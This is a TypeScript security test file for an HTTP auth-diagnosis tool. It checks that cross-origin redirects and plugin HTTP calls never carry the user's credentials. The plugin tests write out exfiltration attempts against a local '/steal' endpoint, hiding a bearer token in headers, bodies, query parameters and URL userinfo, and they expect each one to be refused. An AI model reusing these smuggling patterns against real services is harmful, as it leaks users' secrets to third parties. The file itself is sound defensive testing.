import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Engine } from '../../src/core/engine.ts';
import type { LoadedPlugin } from '../../src/core/plugin.ts';
import { Redactor } from '../../src/core/redact.ts';
import { parseCurlArgs } from '../../src/inputs/curl.ts';
import { loadPlugins } from '../../src/plugins/loader.ts';
import { definePlugin, defineRule } from '../../src/plugins/define.ts';
import { runCli } from '../helpers/cli.ts';
import { startServer, type TestServer } from '../helpers/server.ts';

/**
 * DESIGN.md §4: credentials go only where the user pointed them. Two real servers on 127.0.0.1:
 * `api` (the target the user named) and `elsewhere` (another origin: another port). Whatever `api`
 * answers — any redirect status, to any path of `elsewhere` — and whatever a plugin's rule tries,
 * `elsewhere` never receives a credential: not a header, not a body, not a query parameter.
 */

const TOKEN = 'tok-Zq7-0123456789abcdef';
const SECRET = 'cs-Zq7-fedcba9876543210';

let api: TestServer;
let elsewhere: TestServer;
let builtins: LoadedPlugin[];

/** Everything `elsewhere` received, as one string, to search for credentials. */
const seenElsewhere = () => JSON.stringify(elsewhere.received);

beforeAll(async () => {
  builtins = await loadPlugins();
  elsewhere = await startServer((_req, res) => {
    res.writeHead(401, { 'Content-Type': 'application/json', 'WWW-Authenticate': 'Bearer' });
    res.end('{"error":"unauthorized"}');
  });
  api = await startServer((req, res) => {
    // /redirect/<status>/<where>: answer that redirect; anything else: 200.
    const m = /^\/redirect\/(\d{3})\/(same|other|localhost)/.exec(req.url ?? '');
    if (m) {
      const target = m[2] === 'same' ? '/landed' : m[2] === 'localhost' ? `http://localhost:${api.port}/landed` : `${elsewhere.origin}/landed`;
      res.writeHead(Number(m[1]), { Location: target });
      res.end();
      return;
    }
    res.writeHead(200, { 'Content-Type': 'application/json' });
    res.end('{"ok":true}');
  });
});
afterAll(async () => {
  await api.close();
  await elsewhere.close();
});

async function diagnose(argv: string[], plugins: LoadedPlugin[] = builtins) {
  const engine = new Engine({ plugins, redactor: new Redactor(), timeouts: { connect: 2_000, response: 5_000 } });
  const diagnosis = await engine.diagnoseLive(parseCurlArgs(argv));
  return { diagnosis, engine };
}

describe('cross-origin redirects', () => {
  it.each([301, 302, 303, 307, 308])('a %i to another origin carries no credential header', async (status) => {
    elsewhere.received.length = 0;
    const { diagnosis } = await diagnose([`${api.origin}/redirect/${status}/other`, '-H', `Authorization: Bearer ${TOKEN}`, '-H', `X-API-Key: ${SECRET}`, '-b', `session=${SECRET}`]);
    expect(elsewhere.received).toHaveLength(1);
    expect(seenElsewhere().includes(TOKEN)).toBe(false);
    expect(seenElsewhere().includes(SECRET)).toBe(false);
    const hop = diagnosis.exchange.redirects[0]!;
    expect(hop).toMatchObject({ status, crossOrigin: true });
    expect([...hop.droppedHeaders].sort()).toEqual(['Authorization', 'Cookie', 'X-API-Key']);
    expect(diagnosis.verdict.cause).toBe('missing_credentials');
  });

  it('another host name for the same server is another origin too', async () => {
    const before = api.received.length;
    const { diagnosis } = await diagnose([`${api.origin}/redirect/302/localhost`, '-H', `Authorization: Bearer ${TOKEN}`]);
    expect(diagnosis.exchange.redirects[0]).toMatchObject({ crossOrigin: true, droppedHeaders: ['Authorization'] });
    const landed = api.received.slice(before).find((r) => r.url === '/landed');
    expect(landed?.headers.authorization).toBeUndefined();
  });

  it('a same-origin redirect keeps the credentials, and a 307 keeps the body', async () => {
    const before = api.received.length;
    await diagnose([`${api.origin}/redirect/307/same`, '-H', `Authorization: Bearer ${TOKEN}`, '--json', JSON.stringify({ client_secret: SECRET })]);
    const landed = api.received.slice(before).find((r) => r.url === '/landed');
    expect(landed?.headers.authorization).toBe(`Bearer ${TOKEN}`);
    expect(landed?.body.includes(SECRET)).toBe(true);
  });

  it.each([
    [307, 'a JSON body', ['--json', JSON.stringify({ grant_type: 'client_credentials', client_secret: SECRET })]],
    [308, 'a JSON body', ['--json', JSON.stringify({ password: SECRET })]],
    [307, 'a form body', ['-d', `grant_type=refresh_token&refresh_token=${SECRET}`]],
    [308, 'a PUT form body', ['-X', 'PUT', '-d', `password=${SECRET}`]],
  ])('a %i to another origin does not resend %s: authdoctor stops and says why', async (status, _what, flags) => {
    elsewhere.received.length = 0;
    const { diagnosis } = await diagnose([`${api.origin}/redirect/${status}/other`, ...flags]);
    expect(elsewhere.received).toHaveLength(0);
    expect(diagnosis.exchange.response?.status).toBe(status);
    expect(diagnosis.exchange.transportError).toMatchObject({ code: 'ERR_REDIRECT_BODY_CROSS_ORIGIN' });
    expect(diagnosis.exchange.transportError?.message).toContain(elsewhere.origin);
    expect(diagnosis.exchange.transportError?.message.includes(SECRET)).toBe(false);
    const transport = diagnosis.findings.find((f) => f.ruleId === 'http/transport');
    expect(transport?.message).toMatch(/resend the request body to another origin/);
  });

  it('a 301, 302 or 303 after POST becomes a GET without the body, so the body never travels', async () => {
    for (const status of [301, 302, 303]) {
      elsewhere.received.length = 0;
      await diagnose([`${api.origin}/redirect/${status}/other`, '-d', `client_secret=${SECRET}`]);
      expect(elsewhere.received.map((r) => r.method)).toEqual(['GET']);
      expect(seenElsewhere().includes(SECRET)).toBe(false);
    }
  });

  it('the real CLI reports the stopped redirect with exit code 3 (no answer to judge), no stack trace, no secret', async () => {
    elsewhere.received.length = 0;
    const result = await runCli(['check', `${api.origin}/redirect/307/other`, '--json', JSON.stringify({ client_secret: SECRET }), '--format', 'text']);
    expect(result.code).toBe(3);
    expect(result.stdout).toMatch(/Did not follow the 307 redirect/);
    expect(result.stdout + result.stderr).not.toMatch(/\n\s+at .+:\d+:\d+/);
    expect((result.stdout + result.stderr).includes(SECRET)).toBe(false);
    expect(elsewhere.received).toHaveLength(0);
  });
});

describe("a plugin's own HTTP client", () => {
  /** A plugin with one rule that makes the call `attempt` describes and reports what happened. */
  function probePlugin(attempt: (ctx: Parameters<NonNullable<Parameters<typeof defineRule>[0]['check']>>[0]) => Promise<unknown>): LoadedPlugin {
    const plugin = definePlugin({
      name: 'probe',
      rules: [
        defineRule({
          meta: { id: 'call', title: 'Calls out', causes: [], network: true },
          async check(ctx) {
            try {
              await attempt(ctx);
              return [{ status: 'pass', message: 'sent' }];
            } catch (error) {
              return [{ status: 'warn', message: `refused: ${(error as Error).message}` }];
            }
          },
        }),
      ],
    });
    return { plugin, source: 'test', builtin: false };
  }

  async function run(attempt: Parameters<typeof probePlugin>[0]) {
    elsewhere.received.length = 0;
    const { diagnosis, engine } = await diagnose([`${api.origin}/v1/me`, '-H', `Authorization: Bearer ${TOKEN}`], [probePlugin(attempt)]);
    const finding = diagnosis.findings.find((f) => f.ruleId === 'probe/call')!;
    return { finding, engine };
  }

  it.each<[string, Parameters<typeof probePlugin>[0]]>([
    ['a credential header', (ctx) => ctx.http.request({ url: `${elsewhere.origin}/steal`, headers: { Authorization: `Bearer ${TOKEN}` } })],
    ['a request marked credentialed', (ctx) => ctx.http.request({ url: `${elsewhere.origin}/steal`, method: 'POST', body: 'x=1', credentialed: true })],
    ["the user's token in an innocent-looking header", (ctx) => ctx.http.request({ url: `${elsewhere.origin}/steal`, headers: { 'X-Forwarded-Context': `v=${TOKEN}` } })],
    ["the user's token in the body", (ctx) => ctx.http.request({ url: `${elsewhere.origin}/steal`, method: 'POST', body: JSON.stringify({ note: TOKEN }) })],
    ['a credential query parameter', (ctx) => ctx.http.request({ url: `${elsewhere.origin}/steal?access_token=abc123456789` })],
    ['URL userinfo', (ctx) => ctx.http.request({ url: `${elsewhere.origin.replace('http://', 'http://u:p@')}/steal` })],
  ])('refuses to send %s to an origin the user did not configure', async (_what, attempt) => {
    const { finding } = await run(attempt);
    expect(finding.status).toBe('warn');
    expect(finding.message).toMatch(/Refused to send credentials to http:\/\/127\.0\.0\.1:\d+/);
    expect(elsewhere.received).toHaveLength(0);
    expect(finding.message.includes(TOKEN)).toBe(false);
  });

  it('lets public metadata go anywhere, and records it', async () => {
    const { finding, engine } = await run((ctx) => ctx.http.request({ url: `${elsewhere.origin}/.well-known/openid-configuration` }));
    expect(finding.status).toBe('pass');
    expect(elsewhere.received).toHaveLength(1);
    expect(engine.recorder.list().map((r) => r.host)).toContain(`127.0.0.1:${elsewhere.port}`);
  });

  it('lets credentials go to the configured origin, but not along a redirect away from it', async () => {
    const { finding } = await run((ctx) => ctx.http.request({ url: `${api.origin}/redirect/302/other`, headers: { Authorization: `Bearer ${TOKEN}` } }));
    expect(finding.status).toBe('pass');
    expect(elsewhere.received).toHaveLength(0);
  });
});
